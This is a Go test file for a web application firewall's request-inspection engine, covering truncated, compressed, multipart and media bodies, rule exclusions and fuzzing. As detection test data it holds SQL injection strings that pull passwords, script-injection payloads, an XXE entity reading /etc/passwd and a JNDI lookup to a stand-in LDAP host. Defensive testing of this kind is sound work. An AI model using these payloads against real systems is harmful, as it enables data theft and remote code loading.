package inspect

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"math/rand"
	"slices"
	"strings"
	"testing"
)

func post(contentType, body string, size int64) Request {
	return sample{Name: "t", Method: "POST", Path: "/api", Headers: map[string]string{"content-type": contentType}, Body: body}.sized(size)
}

func (s sample) sized(size int64) Request {
	r := s.request()
	r.Size = size
	return r
}

func TestCutOffBodiesAreInspected(t *testing.T) {
	engine := testEngine(t)
	filler := strings.Repeat("a quiet word ", 40)
	cases := map[string]Request{
		"json":      post("application/json", `{"note":"' UNION SELECT password FROM users--","text":"`+filler, 1<<20),
		"json last": post("application/json", `{"text":"fine","note":"' UNION SELECT password FROM users--`, 1<<20),
		"multipart": post("multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n' UNION SELECT password FROM users--\r\n--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.jpg\"\r\n\r\n"+filler, 1<<20),
		"lines":     post("application/x-ndjson", "{\"a\":1}\n{\"b\":\"' UNION SELECT password FROM users--\"}\n{\"c\":\"x", 1<<20),
	}
	for name, r := range cases {
		isSQL := func(m Match) bool { return m.Category == "sqli" }
		if v := engine.Inspect(r); !v.Attack || !slices.ContainsFunc(v.Matches, isSQL) {
			t.Errorf("%s: %+v", name, v)
		}
	}
	if v := engine.Inspect(post("application/json", `{"text":"`+filler, 1<<20)); v.Attack {
		t.Errorf("a long harmless body is refused: %+v", v.Matches)
	}
	if v := engine.Inspect(post("application/json", `{"text":"x"`, 11)); !v.Attack {
		t.Error("a broken whole body is let through")
	}
}

func TestPackedBodiesAreInspected(t *testing.T) {
	var packed bytes.Buffer
	w := gzip.NewWriter(&packed)
	w.Write([]byte(`{"q":"<script>alert(1)</script>"}`))
	w.Close()
	r := post("application/json", packed.String(), int64(packed.Len()))
	r.Headers += "\r\ncontent-encoding: gzip"
	if v := testEngine(t).Inspect(r); !v.Attack {
		t.Error("an attack passes when it is compressed")
	}
}

func TestEveryBeginningOfJSONCloses(t *testing.T) {
	whole := `{"a":"x\"y\\","b":[1,{"c":"\u0041 d"},[],null,-1.5e3],"e":{"f":true},"g":"end"}`
	for i := 1; i < len(whole); i++ {
		closed := closeJSON([]byte(whole[:i]))
		if !json.Valid(closed) {
			t.Errorf("%s became %s", whole[:i], closed)
		}
	}
}

func TestPicturesAreShortenedTextIsNot(t *testing.T) {
	raw := make([]byte, 3000)
	rand.New(rand.NewSource(1)).Read(raw)
	picture := `{"image":"data:image/png;base64,` + base64.StdEncoding.EncodeToString(raw) + `"}`
	if short := shorten([]byte(picture)); len(short) > 200 {
		t.Errorf("a picture of %d bytes keeps %d", len(picture), len(short))
	}
	text := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("<script>alert(1)</script>", 20)))
	if v := testEngine(t).Inspect(post("application/json", `{"x":"`+text+`"}`, 0)); !v.Attack {
		t.Error("script in long base64 passes")
	}
}

func TestRawPicturesPassTextInTheirPlaceDoesNot(t *testing.T) {
	engine := testEngine(t)
	raw := make([]byte, 3000)
	rand.New(rand.NewSource(1)).Read(raw)
	put := func(contentType, body string) Verdict {
		r := post(contentType, body, 0)
		r.Method, r.URL = "PUT", "/photos/a"
		return engine.Inspect(r)
	}
	for _, media := range []string{"image/png", "image/jpeg", "video/mp4", "audio/mpeg", "application/octet-stream"} {
		if v := put(media, "\x89PNG\r\n\x1a\n\x00"+string(raw)); v.Attack {
			t.Errorf("%s: %+v", media, v.Matches)
		}
		if v := put(media, "x=<script>alert(1)</script>&y=1' OR 1=1--"); !v.Attack {
			t.Errorf("%s: an attack in text passes", media)
		}
	}
	if v := put("image/svg+xml", "<svg><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]></svg>"); !v.Attack {
		t.Error("an SVG with an entity passes")
	}
}

func TestExclusions(t *testing.T) {
	attack := sample{Name: "t", Method: "GET", Path: "/api?x=%24%7Bjndi%3Aldap%3A%2F%2Fa.example%2Fb%7D"}.request()
	verdict := testEngine(t).Inspect(attack)
	if !verdict.Attack {
		t.Fatal("not recognised")
	}
	var all []int
	for _, m := range verdict.Matches {
		all = append(all, m.Rule)
	}
	lenient, err := New(Settings{Paranoia: 1, Exclusions: all})
	if err != nil {
		t.Fatal(err)
	}
	if v := lenient.Inspect(attack); v.Attack {
		t.Errorf("excluded rules still match: %+v", v.Matches)
	}
}

func FuzzInspect(f *testing.F) {
	engine := testEngine(f)
	f.Add("application/json", []byte(`{"a":[1,"b`), int64(100))
	f.Add("multipart/form-data; boundary=b", []byte("--b\r\n"), int64(5))
	f.Add("application/x-ndjson", []byte("{\"a\":\n"), int64(50))
	f.Add("application/xml", []byte("<!DOCTYPE"), int64(9))
	f.Fuzz(func(t *testing.T, contentType string, body []byte, size int64) {
		engine.Inspect(post(contentType, string(body), size))
	})
}
